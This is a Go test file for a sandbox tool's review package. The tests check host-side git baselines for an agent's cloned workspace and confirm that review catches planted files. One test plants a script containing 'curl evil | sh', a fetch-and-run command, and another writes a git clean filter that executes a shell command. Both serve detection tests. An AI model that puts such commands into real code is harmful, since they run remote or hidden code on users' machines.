package review

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlock-sandbox/airlock/internal/wsclone"
	"github.com/airlock-sandbox/airlock/vm"
)

// copyFixture is a host repository with uncommitted work of every kind
// (a modified, a deleted, an untracked and an executable file, a symlink,
// a tracked file the hide globs cover) and its private copy made by
// wsclone, as a backend makes it.
func copyFixture(t *testing.T, hide []string) (host, dst string, c wsclone.Copy) {
	t.Helper()
	gitEnv(t)
	host = hostRepo(t)
	writeFile(t, host+"/.env", "TOKEN=committed\n", 0o644)
	writeFile(t, host+"/gone.txt", "bye\n", 0o644)
	runGit(t, host, "add", "-A")
	runGit(t, host, "commit", "-q", "-m", "more")
	writeFile(t, host+"/README.md", "# changed, not committed\n", 0o644)
	os.Remove(host + "/gone.txt")
	writeFile(t, host+"/new/dir/tool.sh", "#!/bin/sh\necho hi\n", 0o755)
	if err := os.Symlink("README.md", host+"/link"); err != nil {
		t.Fatal(err)
	}
	dst = filepath.Join(t.TempDir(), "ws")
	c, err := wsclone.Make(context.Background(), host, dst, hide)
	if err != nil {
		t.Fatal(err)
	}
	return host, dst, c
}

// TestCopyBaselineIsTheGuestSnapshot: the baseline recorded on the host
// from the private copy is the commit the guest's own snapshot script
// makes of the same copy — same tree, same parent — with and without
// uncommitted work, so the first review shows nothing that was there
// before the agent started.
func TestCopyBaselineIsTheGuestSnapshot(t *testing.T) {
	hide := []string{".env", "*.pem"}
	for _, dirty := range []bool{false, true} {
		var host, dst string
		var c wsclone.Copy
		if dirty {
			host, dst, c = copyFixture(t, hide)
			if len(c.Changed) != 4 {
				t.Fatalf("wsclone reported changed %v, want README.md, gone.txt, link and new/dir/tool.sh", c.Changed)
			}
		} else {
			gitEnv(t)
			host = hostRepo(t)
			dst = filepath.Join(t.TempDir(), "ws")
			var err error
			if c, err = wsclone.Make(context.Background(), host, dst, hide); err != nil {
				t.Fatal(err)
			}
		}
		// The reference: the guest's script on an identical copy.
		ref := filepath.Join(t.TempDir(), "ref")
		if _, err := wsclone.Make(context.Background(), host, ref, hide); err != nil {
			t.Fatal(err)
		}
		want, err := (localGuest{ref}).Run(context.Background(), snapshotScript("/workspace", "refs/airlock/base", hide))
		if err != nil {
			t.Fatal(err)
		}
		so, err := parseSnapshotOutput(want)
		if err != nil {
			t.Fatal(err)
		}
		tg := &Target{Name: "cb", Mode: ModeClone, Repo: host, StateDir: t.TempDir(), Hide: hide, Guest: localGuest{dst}, FetchURL: dst}
		index, _ := os.ReadFile(filepath.Join(dst, ".git", "index"))
		if err := CopyBaseline(context.Background(), tg, vm.WorkspaceCopy{Dir: dst, Repo: c.Repo, Changed: c.Changed}); err != nil {
			t.Fatal(err)
		}
		s, err := tg.loadState()
		if err != nil {
			t.Fatal(err)
		}
		gotTree := runGit(t, dst, "rev-parse", s.Base+"^{tree}")
		wantTree := runGit(t, ref, "rev-parse", so.id+"^{tree}")
		if gotTree != wantTree {
			t.Errorf("dirty=%v: host baseline tree %s, guest snapshot tree %s\nhost: %s\nguest: %s", dirty, gotTree, wantTree,
				runGit(t, dst, "ls-tree", "-r", s.Base), runGit(t, ref, "ls-tree", "-r", so.id))
		}
		if dirty && s.Base != so.id {
			// The commit written in Go is git's own, byte for byte.
			t.Errorf("host baseline commit %s, the guest's script made %s", s.Base, so.id)
		}
		if got, want := runGit(t, dst, "rev-parse", s.Base+"^"), runGit(t, ref, "rev-parse", so.id+"^"); got != want {
			t.Errorf("dirty=%v: parent %s, want %s", dirty, got, want)
		}
		if got := strings.TrimSpace(runGit(t, dst, "rev-parse", "refs/airlock/base")); got != s.Base {
			t.Errorf("dirty=%v: refs/airlock/base in the copy is %q, want %s", dirty, got, s.Base)
		}
		if after, _ := os.ReadFile(filepath.Join(dst, ".git", "index")); string(after) != string(index) {
			t.Errorf("dirty=%v: the copy's own index (the agent's) changed", dirty)
		}
		if _, err := os.Stat(filepath.Join(tg.dir(), "meta-base.json")); err != nil {
			t.Errorf("dirty=%v: no .git baseline: %v", dirty, err)
		}
	}
}

// TestCopyBaselineThenReview: a sandbox whose baseline was taken on the
// host is reviewed as before — what the agent planted is found, what was
// there at start is not reported.
func TestCopyBaselineThenReview(t *testing.T) {
	hide := []string{".env"}
	host, dst, c := copyFixture(t, hide)
	tg := &Target{Name: "cb", Mode: ModeClone, Repo: host, StateDir: t.TempDir(), Hide: hide, Guest: localGuest{dst}, FetchURL: dst}
	if err := CopyBaseline(context.Background(), tg, vm.WorkspaceCopy{Dir: dst, Repo: c.Repo, Changed: c.Changed}); err != nil {
		t.Fatal(err)
	}
	if err := Baseline(context.Background(), tg); err != nil { // started's call: already recorded
		t.Fatal(err)
	}
	res, err := Review(context.Background(), tg)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Reports) != 0 {
		var ps []string
		for _, r := range res.Reports {
			ps = append(ps, r.File.Path)
		}
		t.Fatalf("nothing changed since the copy, review reports %s", strings.Join(ps, ", "))
	}
	plant(t, dst)
	res, err = Review(context.Background(), tg)
	if err != nil {
		t.Fatal(err)
	}
	checkPlanted(t, res)
}

// TestCopyBaselineLeavesOtherCopiesToTheGuest: only a clone wsclone made
// gets its baseline on the host. A plain copy of a folder whose .git git
// does not accept (its config has a clean filter: outside round
// clonebase/01), a clone with an untracked ".Git" gitfile pointing at a
// host folder (clonebase/03), and a clone of a repository without commits
// (clonebase/10) record nothing and run nothing: the guest takes the
// baseline at start. The plain copy has no .git at all.
func TestCopyBaselineLeavesOtherCopiesToTheGuest(t *testing.T) {
	gitEnv(t)
	marker := filepath.Join(t.TempDir(), "filter-ran")
	plain := t.TempDir()
	writeFile(t, plain+"/.git/config", "[core]\n\trepositoryformatversion = 0\n[filter \"x\"]\n\tclean = touch "+marker+"\n", 0o644)
	writeFile(t, plain+"/.gitattributes", "* filter=x\n", 0o644)
	writeFile(t, plain+"/a.txt", "a\n", 0o644)
	dotGit := hostRepo(t)
	elsewhere := t.TempDir()
	writeFile(t, elsewhere+"/config", "[core]\n\tbare = false\n", 0o644)
	writeFile(t, dotGit+"/.Git", "gitdir: "+elsewhere+"\n", 0o644)
	empty := t.TempDir()
	runGit(t, empty, "init", "-q")
	writeFile(t, empty+"/a.txt", "a\n", 0o644)
	for name, src := range map[string]string{"plain": plain, "dotGit": dotGit, "no commits": empty} {
		dst := filepath.Join(t.TempDir(), "ws")
		c, err := wsclone.Make(context.Background(), src, dst, nil)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		tg := &Target{Name: "cb", Mode: ModeClone, Repo: src, StateDir: t.TempDir(), Guest: localGuest{dst}, FetchURL: dst}
		if err := CopyBaseline(context.Background(), tg, vm.WorkspaceCopy{Dir: dst, Repo: c.Repo, Changed: c.Changed}); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		if s, _ := tg.loadState(); s.Base != "" {
			t.Errorf("%s: a baseline was recorded on the host (%s); the guest must take it", name, s.Base)
		}
		if _, err := os.Stat(filepath.Join(dst, ".git", "refs", "airlock", "base")); err == nil {
			t.Errorf("%s: refs/airlock/base written in the copy", name)
		}
		if _, err := os.Lstat(filepath.Join(dst, ".git")); name == "plain" && err == nil {
			t.Error("the plain copy kept the folder's .git (its config, filters, core.worktree)")
		}
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("the folder's clean filter ran on the host")
	}
}

// TestGitlinkDirectoryFilesReported: a submodule the clone left as an
// empty directory (a gitlink, no repository inside): files the agent puts
// there are not captured by git add, so review names each (outside round
// clonebase2/11: review said "0 files changed").
func TestGitlinkDirectoryFilesReported(t *testing.T) {
	gitEnv(t)
	host := hostRepo(t)
	head := strings.TrimSpace(runGit(t, host, "rev-parse", "HEAD"))
	runGit(t, host, "update-index", "--add", "--cacheinfo", "160000,"+head+",vendor/lib")
	runGit(t, host, "commit", "-q", "-m", "submodule")
	dst := filepath.Join(t.TempDir(), "ws")
	c, err := wsclone.Make(context.Background(), host, dst, nil)
	if err != nil {
		t.Fatal(err)
	}
	tg := &Target{Name: "gl", Mode: ModeClone, Repo: host, StateDir: t.TempDir(), Guest: localGuest{dst}, FetchURL: dst}
	if err := CopyBaseline(context.Background(), tg, vm.WorkspaceCopy{Dir: dst, Repo: c.Repo, Changed: c.Changed}); err != nil {
		t.Fatal(err)
	}
	os.MkdirAll(filepath.Join(dst, "vendor", "lib"), 0o755)
	writeFile(t, filepath.Join(dst, "vendor", "lib", "run.sh"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
	res, err := Review(context.Background(), tg)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range res.Reports {
		if r.File.Path == "vendor/lib/run.sh" {
			for _, f := range r.Findings {
				found = found || f.Severity == High
			}
		}
	}
	if !found {
		var ps []string
		for _, r := range res.Reports {
			ps = append(ps, r.File.Path)
		}
		t.Fatalf("vendor/lib/run.sh inside the submodule's directory is not reported high; reports: %v", ps)
	}
}

// TestCopyBaselineSHA256: in a SHA-256 repository the baseline commit is
// git's (the Go commit writer names SHA-1 objects only) and the copy's
// refs/airlock/base names a commit git can read (outside round
// clonebase2/06 failed review's fetch when it did not).
func TestCopyBaselineSHA256(t *testing.T) {
	gitEnv(t)
	host := t.TempDir()
	runGit(t, host, "init", "-q", "--object-format=sha256", "-b", "main")
	writeFile(t, host+"/a.txt", "one\n", 0o644)
	runGit(t, host, "add", "-A")
	runGit(t, host, "commit", "-q", "-m", "init")
	writeFile(t, host+"/a.txt", "uncommitted\n", 0o644)
	dst := filepath.Join(t.TempDir(), "ws")
	c, err := wsclone.Make(context.Background(), host, dst, nil)
	if err != nil {
		t.Fatal(err)
	}
	tg := &Target{Name: "sha", Mode: ModeClone, Repo: host, StateDir: t.TempDir(), Guest: localGuest{dst}, FetchURL: dst}
	if err := CopyBaseline(context.Background(), tg, vm.WorkspaceCopy{Dir: dst, Repo: c.Repo, Changed: c.Changed}); err != nil {
		t.Fatal(err)
	}
	s, err := tg.loadState()
	if err != nil || len(s.Base) != 64 {
		t.Fatalf("base %q (%v), want a SHA-256 commit", s.Base, err)
	}
	if got := runGit(t, dst, "cat-file", "-p", "refs/airlock/base:a.txt"); got != "uncommitted\n" {
		t.Errorf("base's a.txt %q", got)
	}
	runGit(t, dst, "fsck", "--no-dangling")
}
